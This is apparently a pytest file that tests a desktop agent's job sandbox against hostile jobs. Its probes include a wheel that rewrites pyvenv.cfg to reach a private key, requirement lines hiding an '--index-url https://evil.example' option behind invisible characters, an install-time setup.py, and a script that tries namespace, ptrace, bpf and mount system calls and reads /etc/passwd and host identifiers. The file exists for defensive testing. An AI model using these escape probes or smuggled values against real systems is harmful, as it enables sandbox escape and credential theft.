"""Hostile jobs, through the real agent: nothing a job writes widens its sandbox, and it sees no host.

Each test is one class of attack: a wheel whose data files rewrite the environment's
`pyvenv.cfg` (the sandbox used to bind what that file named), symlinks in an environment,
requirement lines that another parser reads differently, nested namespaces and raw kernel
interfaces, and the machine's identifiers.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import socket
import zipfile
from pathlib import Path

import pytest

from desktop_agent.engine import events as ev
from desktop_agent.engine import sandbox
from tests.e2e.conftest import uploaded_result
from tests.helpers.one_task import completions, run_one_task

pytestmark = [pytest.mark.timeout(120), pytest.mark.usefixtures("no_job_left_behind")]

needs_bwrap = pytest.mark.skipif(
    not sandbox.detect().available, reason=f"no working bubblewrap: {sandbox.detect().reason}"
)


def make_wheel(folder: Path, name: str, files: dict[str, str]) -> Path:
    """A minimal valid py3-none-any wheel holding `files` (paths inside the wheel → text)."""
    folder.mkdir(parents=True, exist_ok=True)
    dist = f"{name}-1.0.dist-info"
    content = dict(files)
    content[f"{name}/__init__.py"] = ""
    content[f"{dist}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"
    content[f"{dist}/WHEEL"] = (
        "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    record = []
    for path, text in content.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        record.append(f"{path},sha256={digest.decode()},{len(text.encode())}")
    record.append(f"{dist}/RECORD,,")
    content[f"{dist}/RECORD"] = "\n".join(record) + "\n"
    wheel = folder / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        for path, text in content.items():
            zf.writestr(path, text)
    return wheel


@pytest.fixture
def secret_dir(tmp_path):
    """A folder the job must never see, with a key in it (stands for the volunteer's home)."""
    folder = tmp_path / "volunteer-home"
    (folder / "bin").mkdir(parents=True)
    (folder / "id_ed25519").write_text("PRIVATE KEY")
    return folder


READ_SECRET = """
import json, os, sys
target = {path!r}
try:
    got = open(target).read()
except OSError as exc:
    got = type(exc).__name__
cfg = open(os.path.join(sys.prefix, "pyvenv.cfg")).read()
open("model.pth", "w").write(json.dumps({{"got": got, "cfg": cfg}}))
"""


@needs_bwrap
def test_a_wheel_that_rewrites_pyvenv_cfg_does_not_widen_the_sandbox(
    srv, tmp_path, secret_dir, monkeypatch
):
    """A wheel's data files land in the environment's root: its `pyvenv.cfg` names the secret folder."""
    wheels = tmp_path / "wheels"
    hostile_cfg = f"home = {secret_dir / 'bin'}\ninclude-system-site-packages = false\n"
    make_wheel(wheels, "cfgwriter", {"cfgwriter-1.0.data/data/pyvenv.cfg": hostile_cfg})
    # The owner's own index configuration: a local wheel folder, no index.
    monkeypatch.setenv("UV_FIND_LINKS", str(wheels))
    monkeypatch.setenv("UV_NO_INDEX", "1")
    code = READ_SECRET.format(path=str(secret_dir / "id_ed25519"))
    srv.submit_job(code=code.encode(), requirements=b"cfgwriter==1.0\n", data=b"x\n1\n", chunks=1)

    ran = run_one_task(srv, tmp_path / "agent", timeout=100)

    assert ran.row.sandbox == "bwrap"
    assert ran.finished.outcome is ev.Outcome.COMPLETED, ran.finished
    report = uploaded_result(srv, ran.finished.task_id)
    assert str(secret_dir) in report["cfg"]  # the attack itself happened: the file was rewritten
    assert report["got"] in ("FileNotFoundError", "PermissionError"), report


def test_the_sandbox_view_ignores_pyvenv_cfg_and_symlinks_in_the_env(tmp_path, secret_dir):
    """The bind list comes from the agent's own paths: nothing inside the env is read or resolved."""
    env = tmp_path / "envs" / "abc"
    (env / "bin").mkdir(parents=True)
    (env / "pyvenv.cfg").write_text(f"home = {secret_dir / 'bin'}\n")
    (env / "bin" / "python").symlink_to(secret_dir / "bin" / "python3")
    (env / "lib").symlink_to(secret_dir)
    info = sandbox.SandboxInfo(True, "bwrap", "/usr/bin/bwrap")
    prefix = sandbox.job_prefix(
        info,
        python=env / "bin" / "python",
        workspace=tmp_path / "work" / "task-1",
        base_python="/usr/bin/python3",
    )
    assert not [arg for arg in prefix if str(secret_dir) in arg], prefix
    assert str(env) in prefix  # the environment itself, at the agent's own path


def test_the_base_interpreter_is_bound_from_the_agents_own_choice(tmp_path):
    base = tmp_path / "pyenv" / "versions" / "3.11" / "bin" / "python3.11"
    base.parent.mkdir(parents=True)
    base.touch()
    info = sandbox.SandboxInfo(True, "bwrap", "/usr/bin/bwrap")
    prefix = sandbox.job_prefix(
        info,
        python=tmp_path / "env" / "bin" / "python",
        workspace=tmp_path / "ws",
        base_python=base,
    )
    assert str(tmp_path / "pyenv" / "versions" / "3.11") in prefix


@pytest.mark.parametrize(
    "line",
    [
        "\ufeff--index-url https://evil.example/simple",
        "\u200b--extra-index-url https://evil.example/simple",
        "six\u00a0--index-url=https://evil.example/",
        "\ufeffsix",
    ],
)
def test_invisible_characters_before_an_option_fail_the_task(srv, tmp_path, line):
    srv.submit_job(
        code=b"open('model.pth','w').write('x')\n",
        requirements=f"six\n{line}\n".encode(),
        data=b"x\n1\n",
        chunks=1,
    )
    ran = run_one_task(srv, tmp_path / "agent")
    assert ran.finished.outcome is ev.Outcome.FAILED
    assert "invisible or non-ASCII characters" in (ran.finished.error or "")
    assert [c["result_url"] for c in completions(srv)] == [""]
    assert not any((tmp_path / "agent" / "envs").glob("*/.ready"))


KERNEL_DOORS = r"""
import ctypes, json, os, platform, socket
libc = ctypes.CDLL(None, use_errno=True)
NR = {"x86_64": dict(unshare=272, setns=308, ptrace=101, keyctl=250, bpf=321, mount=165,
                     perf_event_open=298),
      "aarch64": dict(unshare=97, setns=268, ptrace=117, keyctl=219, bpf=280, mount=40,
                      perf_event_open=241)}[platform.machine()]
out = {}
def call(name, *args):
    r = libc.syscall(NR[name], *args)
    out[name] = "OK" if r >= 0 else os.strerror(ctypes.get_errno())
call("unshare", 0x10000000)  # CLONE_NEWUSER: a child namespace with every capability
call("unshare", 0x40000000)
out["unshare-net"] = out.pop("unshare")
call("unshare", 0x10000000)
call("ptrace", 16, 1, 0, 0)  # PTRACE_ATTACH to pid 1
call("keyctl", 0, -1, 0, 0)
call("bpf", 0, 0, 0)
call("mount", 0, 0, 0, 0, 0)
call("perf_event_open", 0, 0, -1, -1, 0)
for name, fam, typ in (("netlink", 16, 3), ("raw", 2, 3), ("packet", 17, 3)):
    try:
        socket.socket(fam, typ).close()
        out[name] = "OK"
    except OSError as exc:
        out[name] = exc.strerror
pid = os.fork()  # ordinary work still works
if pid == 0:
    os._exit(0)
out["fork"] = os.waitpid(pid, 0)[1]
ident = {}
for path in ("/etc/hostname", "/etc/passwd", "/etc/group", "/etc/hosts", "/proc/cmdline",
             "/proc/sys/kernel/random/boot_id"):
    try:
        ident[path] = open(path).read()
    except OSError as exc:
        ident[path] = type(exc).__name__
out["ident"] = ident
out["hostname"] = socket.gethostname()
out["sys"] = sorted(os.listdir("/sys")) if os.path.isdir("/sys") else None
open("model.pth", "w").write(json.dumps(out))
"""


def _host_identifiers() -> dict[str, str]:
    found = {"hostname": socket.gethostname()}
    for path in ("/proc/sys/kernel/random/boot_id", "/proc/cmdline"):
        try:
            found[path] = Path(path).read_text().strip()
        except OSError:
            pass
    return found


@needs_bwrap
def test_no_nested_namespaces_raw_sockets_or_host_identity(srv, tmp_path):
    if os.uname().machine not in ("x86_64", "aarch64"):
        pytest.skip("the probe knows x86_64 and aarch64 system-call numbers only")
    srv.submit_job(code=KERNEL_DOORS.encode(), requirements=b"", data=b"x\n1\n", chunks=1)
    ran = run_one_task(srv, tmp_path / "agent", use_gpu=False)
    assert ran.finished.outcome is ev.Outcome.COMPLETED, ran.finished
    out = uploaded_result(srv, ran.finished.task_id)
    for name in ("unshare", "unshare-net", "ptrace", "keyctl", "bpf", "mount", "perf_event_open"):
        assert out[name] != "OK", (name, out[name])
    for name in ("netlink", "raw", "packet"):
        assert out[name] != "OK", (name, out[name])
    assert out["fork"] == 0
    ident = out["ident"]
    assert out["hostname"] == sandbox.HOSTNAME
    host = _host_identifiers()
    everything = json.dumps(ident)
    for value in host.values():
        if value and len(value) > 3:
            assert value not in everything, value
    users = [line.split(":")[0] for line in ident["/etc/passwd"].splitlines()]
    assert set(users) <= {"root", "nobody", "job"}, users
    assert "localhost" in ident["/etc/hosts"] and len(ident["/etc/hosts"].splitlines()) <= 3
    assert out["sys"] in (None, []), out["sys"]  # no GPU: no /sys at all


def test_seccomp_filter_is_well_formed():
    from desktop_agent.engine import seccomp

    for machine in ("x86_64", "aarch64"):
        program = seccomp.compile_filter(machine)
        assert len(program) % 8 == 0 and 0 < len(program) // 8 < 4096


def make_sdist(folder: Path, name: str, setup_py: str) -> Path:
    import io
    import tarfile

    folder.mkdir(parents=True, exist_ok=True)
    sdist = folder / f"{name}-1.0.tar.gz"
    files = {
        "setup.py": setup_py,
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
    }
    with tarfile.open(sdist, "w:gz") as tf:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{name}-1.0/{path}")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return sdist


def test_a_package_without_a_wheel_is_not_built_and_fails_as_the_jobs_fault(
    srv, tmp_path, monkeypatch
):
    """An sdist's setup.py is the job's code running at install time: it must never run."""
    marker = tmp_path / "setup-py-ran"
    make_sdist(
        tmp_path / "dists",
        "buildme",
        f"open({str(marker)!r}, 'w').write('ran')\nfrom setuptools import setup\nsetup()\n",
    )
    monkeypatch.setenv("UV_FIND_LINKS", str(tmp_path / "dists"))
    monkeypatch.setenv("UV_NO_INDEX", "1")
    srv.submit_job(
        code=b"open('model.pth','w').write('x')\n",
        requirements=b"buildme==1.0\n",
        data=b"x\n1\n",
        chunks=1,
    )
    ran = run_one_task(srv, tmp_path / "agent", timeout=100)
    assert ran.finished.outcome is ev.Outcome.FAILED, ran.finished
    assert "no ready-built package (wheel)" in (ran.finished.error or ""), ran.finished.error
    assert not marker.exists()
    assert [c["result_url"] for c in completions(srv)] == [""]


def test_building_from_source_cannot_be_turned_on():
    from desktop_agent import config

    with pytest.raises(config.SettingsError, match="build_from_source"):
        config.validate({"build_from_source": True})
    assert config.validate({"build_from_source": False}) == {"build_from_source": False}


def test_gpu_use_binds_the_gpu_parts_of_sys_not_all_of_it(tmp_path, monkeypatch):
    """A `/dev/dri` node used to bring the whole of /sys (DMI serials, MAC addresses) along."""
    node = tmp_path / "dri"
    node.mkdir()
    monkeypatch.setattr(sandbox, "_GPU_GLOBS", (str(node),))
    pci = tmp_path / "devices" / "pci0000:00" / "0000:00:02.0"
    pci.mkdir(parents=True)
    link = tmp_path / "bus" / "0000:00:02.0"
    link.parent.mkdir()
    link.symlink_to(pci)
    monkeypatch.setattr(sandbox, "_gpu_pci_devices", lambda: [link])
    args = sandbox.gpu_device_args()
    binds = [args[i + 1] for i, a in enumerate(args) if a in ("--ro-bind-try", "--ro-bind")]
    assert "/sys" not in binds and "/sys/class/net" not in binds
    assert str(pci) in binds and str(node) in args
    assert all(b.startswith(("/sys/", "/proc/driver/nvidia", str(tmp_path))) for b in binds), binds
